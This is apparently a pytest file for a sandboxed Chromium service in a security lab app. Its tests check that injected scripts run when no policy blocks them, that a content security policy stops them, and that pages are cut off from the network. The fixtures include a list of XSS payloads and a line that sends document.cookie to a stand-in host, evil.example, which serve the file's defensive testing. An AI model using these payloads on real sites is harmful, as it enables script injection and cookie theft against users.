"""The browser shows what a page does to its visitors, and no page gets out of it or keeps it."""

import subprocess
import sys
import time
from collections.abc import Callable

import pytest

from lab_app.runner.services import browser
from lab_app.runner.services.browser import Asked, Chromium, NoBrowser, PageHangs, Reply, Visit
from lab_app.workbook.source import ROOT

URL = "http://larkspur.example/page"
SCRIPTS = (
    "<script>told('script')</script><img src=x onerror=told('image')><svg onload=told('svg')></svg>"
    "<details open ontoggle=told('details')>x</details><input autofocus onfocus=told('focus')>"
    "<iframe src='javascript:parent.told(`frame`)'></iframe><a href=javascript:told('link')>x</a>"
    "<iframe srcdoc='<script>parent.told(`srcdoc`)</script>'></iframe>"
)
KINDS = {"script", "image", "svg", "details", "focus", "frame", "link", "srcdoc"}


@pytest.fixture(scope="module")
def chromium() -> Chromium:
    try:
        return browser.chromium()
    except NoBrowser as trouble:
        pytest.skip(str(trouble))


def serving(html: str, **headers: str) -> Callable[[Asked], Reply | None]:
    def fetch(asked: Asked) -> Reply | None:
        kind = {"content-type": "text/html", **{name.replace("_", "-"): value for name, value in headers.items()}}
        return Reply(200, kind, html.encode()) if asked.document else None

    return fetch


def visit(chromium: Chromium, html: str, enough: Callable[[Visit], bool] = bool, **headers: str) -> Visit:
    with chromium.tab(serving(html, **headers), "told") as tab:
        return tab.visit(URL, enough)


def test_every_kind_of_script_runs_where_no_policy_stops_it(chromium: Chromium) -> None:
    seen = visit(chromium, f"<body>{SCRIPTS}", lambda seen: set(seen.called) >= KINDS)
    assert set(seen.called) == KINDS


def test_a_policy_is_kept(chromium: Chromium) -> None:
    own = "<script nonce=abc>document.body.dataset.own = 'yes'</script>"
    seen = visit(chromium, f"<body>{SCRIPTS}{own}", content_security_policy="script-src 'nonce-abc'")
    assert seen.called == ()
    assert seen.marks == {"body data-own": "yes"}


def test_it_waits_for_what_a_check_wants_to_see(chromium: Chromium) -> None:
    late = "<script>setTimeout(() => { document.documentElement.dataset.late = 1 }, 300)</script>"
    assert visit(chromium, late, lambda seen: bool(seen.marks)).marks == {"html data-late": "1"}


def test_a_page_reaches_nobody_but_the_check(chromium: Chromium) -> None:
    html = "<body><img src=http://127.0.0.1:1/x><script>fetch('http://evil.example/?' + document.cookie)</script>"
    asked: list[str] = []

    def fetch(request: Asked) -> Reply | None:
        asked.append(request.url)
        return Reply(200, {"content-type": "text/html"}, html.encode()) if request.document else None

    with chromium.tab(fetch, "told") as tab:
        seen = tab.visit(URL, lambda seen: len(seen.asked) == 3)
    assert set(seen.asked) == set(asked) == {URL, "http://127.0.0.1:1/x", "http://evil.example/?"}


def test_visitors_share_nothing(chromium: Chromium) -> None:
    html = "<script>told(localStorage.length + document.cookie); localStorage.a = 1; document.cookie = 'a=1'</script>"
    assert [visit(chromium, html).called for _ in range(2)] == [("0",), ("0",)]


def test_a_page_that_hangs_costs_its_own_check_alone(chromium: Chromium, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "STEP_SECONDS", 2)
    with pytest.raises(PageHangs):
        visit(chromium, "<script>while (true) {}</script>", lambda seen: False)
    monkeypatch.undo()
    assert visit(chromium, "<body>again").text == "again"


def test_a_page_may_send_its_visitor_away(chromium: Chromium) -> None:
    assert (
        "http://evil.example/"
        in visit(chromium, "<meta http-equiv=refresh content='0;url=http://evil.example/'>").asked
    )


def test_without_chromium_it_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "NAMES", ())
    with pytest.raises(NoBrowser, match="not installed"):
        Chromium()


def test_it_ends_with_its_process(chromium: Chromium) -> None:
    code = (
        "import os; from lab_app.runner.services.browser import chromium; chromium(); print(os.getpid()); os._exit(0)"
    )
    ended = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, check=True)
    until = time.monotonic() + 20
    while children(ended.stdout.strip()) and time.monotonic() < until:
        time.sleep(0.1)
    assert children(ended.stdout.strip()) == ""


def children(pid: str) -> str:
    """The processes of the session of a process that is gone."""
    listed = subprocess.run(["ps", "-o", "pid=,args=", "--sid", pid], capture_output=True, text=True)
    return listed.stdout.strip()
